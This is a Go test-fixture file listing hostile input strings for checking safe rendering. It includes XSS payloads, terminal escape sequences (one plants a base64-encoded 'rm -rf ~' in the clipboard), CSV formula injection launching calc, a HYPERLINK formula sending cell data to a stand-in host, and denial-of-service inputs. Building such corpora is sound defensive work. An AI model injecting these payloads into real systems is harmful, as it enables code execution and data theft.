package hostile

import "strings"

// Ran is the property of window that the scripts in the texts would set.
const Ran = "promptgitRan"

// Away is the host that the texts would make a browser ask.
const Away = "away.example"

// Text is one text.
type Text struct {
	Name string // says what it tries; safe everywhere
	Text string
	Big  bool // it is long or deep
	Only bool // only an output can hold it
}

// Texts are all texts.
func Texts() []Text {
	return append(append(append(markup(), terminal()...), cells()...), big()...)
}

// Lines are the texts that can stand in one line of a file or of a command line.
func Lines() []Text {
	var list []Text
	for _, t := range Texts() {
		if !t.Big && !t.Only && !strings.ContainsAny(t.Text, "\n\r") {
			list = append(list, t)
		}
	}
	return list
}

// Joined is a line with something of every kind.
func Joined() string {
	return `"><img src=//` + Away + `/j onerror=` + Ran + "=9>\x1b]0;t\x07\x1b[31m\u202egpj\u2066\u200b|`</code>`@ada https://" + Away + "/x ![i](//" + Away + "/i) ::error::x"
}

func markup() []Text {
	run := Ran + "=1"
	away := "//" + Away
	return []Text{
		{Name: "script", Text: `<script>` + run + `</script>`},
		{Name: "end-of-everything", Text: `x'"></td></table></title></textarea></script></style>--><script>` + run + `</script>`},
		{Name: "attribute", Text: `"><img src=x onerror=` + run + `>`},
		{Name: "attribute-single", Text: `' autofocus onfocus='` + run + `' x='`},
		{Name: "svg", Text: `<svg onload=` + run + `><animate onbegin=` + run + `></svg>`},
		{Name: "frame", Text: `<iframe srcdoc="<script>parent.` + run + `</script>" src=` + away + `/frame></iframe>`},
		{Name: "refresh", Text: `<meta http-equiv=refresh content="0;url=http:` + away + `/"><base href=` + away + `>`},
		{Name: "loads", Text: `<link rel=stylesheet href=` + away + `/s.css><img src=` + away + `/p.png><video poster=` + away + `/v.png></video>`},
		{Name: "css", Text: `<style>*{background:url(` + away + `/c.png)}</style><p style="background:url(` + away + `/d.png)">`},
		{Name: "form", Text: `<form action=http:` + away + `/><button autofocus>Go on</button></form>`},
		{Name: "script-address", Text: `javascript:` + run + `//`},
		{Name: "data-address", Text: `data:text/html,<script>opener.` + run + `</script>`},
		{Name: "template", Text: "{{constructor.constructor('" + run + "')()}}${" + run + "}<%= 1 %>#{1}", Only: true},
		{Name: "script-string", Text: `\u003cscript\u003e</script><!--<script>` + "\u2028" + run + `\');` + run + "`"},
		{Name: "entities", Text: `&lt;script&gt;` + run + `&lt;/script&gt;&#60;img src=x&#62;&amp;&nbsp`},
		{Name: "markdown", Text: "| a | b |\n| - | - |\n\n```\n" + `![i](http:` + away + `/m.png) [l](javascript:` + run + `) <details open><summary>s</summary> https:` + away + "/auto www." + Away + "\n\n# heading\n\n---\n- [x] @ada #1 ada@" + Away + "\n</details>"},
		{Name: "mention", Text: "@ada and @acme/team see #1, acme/shop#2, GH-3 and https:" + away + "/auto or www." + Away},
		{Name: "picture", Text: `![i](http:` + away + `/m.png) [l](http:` + away + `/l) <http:` + away + `/a> [r]: http:` + away},
		{Name: "code-fence", Text: "`` ` ```` </code></pre>``` | \\| \\` ~~~"},
		{Name: "annotation", Text: "::error file=x::y"},
		{Name: "annotation-lines", Text: "x\n::set-output name=a::b\n##[error]x\r::stop-commands::t"},
	}
}

func terminal() []Text {
	return []Text{
		{Name: "colors", Text: "\x1b[31mred\x1b[7m\x1b[5m\x1b[8mhidden\x1b[0m"},
		{Name: "screen", Text: "\x1b[2J\x1b[H\x1b[1000Dgone\x1b[1A\x1b[2K\x1bc\x1b[?1049h\x1b(0lqk"},
		{Name: "title", Text: "\x1b]0;title\x07\x1b]2;title\x1b\\after"},
		{Name: "link", Text: "\x1b]8;;http://" + Away + "/\x1b\\click\x1b]8;;\x1b\\"},
		{Name: "clipboard", Text: "\x1b]52;c;cm0gLXJmIH4K\x07\x1bP+q544e\x1b\\\x1b_G\x1b\\after"},
		{Name: "asks", Text: "\x1b[6n\x1b[c\x1b]11;?\x07\x05after"},
		{Name: "cut-escapes", Text: "\x1b \x1b[ \x1b] after \x1b"},
		{Name: "eight-bit", Text: "\u009b31m\u009d0;t\u009c\u0090q\u009cafter", Only: true},
		{Name: "controls", Text: "a\x01\x02\a\b\b\b\v\f\x0e\x0f\x7fb"},
		{Name: "null", Text: "a\x00b\x00", Only: true},
		{Name: "return", Text: "first half\rsecond\rthird"},
		{Name: "invalid", Text: "a\x80\xfe\xff\xc0\xafb\xed\xa0\x80c\xf4\x90\x80\x80", Only: true},
		{Name: "overrides", Text: "call \u202egpj.exe\u202c \u2066x\u2069 \u200ey\u200f \u061cz \u202d1\u202c"},
		{Name: "open-override", Text: "\u202e\u2067never closed"},
		{Name: "zero-width", Text: "pa\u200bss\u200c \u200dfa\u2060il\ufeff \u00ad\u034f\u180e\u115f\u3164"},
		{Name: "tags", Text: "ok\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f"},
		{Name: "separators", Text: "a\u2028b\u2029c\u0085d", Only: true},
		{Name: "wide", Text: "全角文字 ｆｕｌｌ 👩🏽‍🚀🏳️‍🌈 é é ᄀᄁᄂ ﷽"},
	}
}

func cells() []Text {
	return []Text{
		{Name: "formula", Text: `=cmd|' /C calc'!A0`},
		{Name: "formula-link", Text: `=HYPERLINK("http://` + Away + `/?"&A1,"open")`},
		{Name: "formula-plus", Text: `+1+cmd|' /C calc'!A0`},
		{Name: "formula-minus", Text: `-2+3+cmd|' /C calc'!A0`},
		{Name: "formula-at", Text: `@SUM(1+9)*cmd|' /C calc'!A0`},
		{Name: "formula-tab", Text: "\t=1+1"},
		{Name: "formula-return", Text: "\r=1+1"},
		{Name: "formula-blank", Text: " =1+1"},
		{Name: "formula-wide", Text: "＝1+1 ＋ － ＠"},
		{Name: "formula-after", Text: "a\",=1+1,\"\n=2+2;=3+3\t=4+4"},
	}
}

func big() []Text {
	return []Text{
		{Name: "one-line", Text: strings.Repeat("0123456789abcdef", 5<<20/16), Big: true},
		{Name: "many-lines", Text: strings.Repeat("<b>\n", 60_000), Big: true},
		{Name: "marks", Text: "a" + strings.Repeat("\u0301", 100_000) + "b", Big: true},
		{Name: "joiners", Text: "a" + strings.Repeat("\u200d", 100_000) + "b", Big: true},
		{Name: "deep-overrides", Text: strings.Repeat("\u202e\u2066", 5_000) + "x", Big: true},
		{Name: "deep-tags", Text: strings.Repeat("<div><table><b>", 5_000) + "x", Big: true},
		{Name: "deep-json", Text: strings.Repeat(`[{"a":`, 5_000) + "1", Big: true},
		{Name: "escapes", Text: strings.Repeat("\x1b[31m\x1b]0;", 20_000) + "x", Big: true},
	}
}
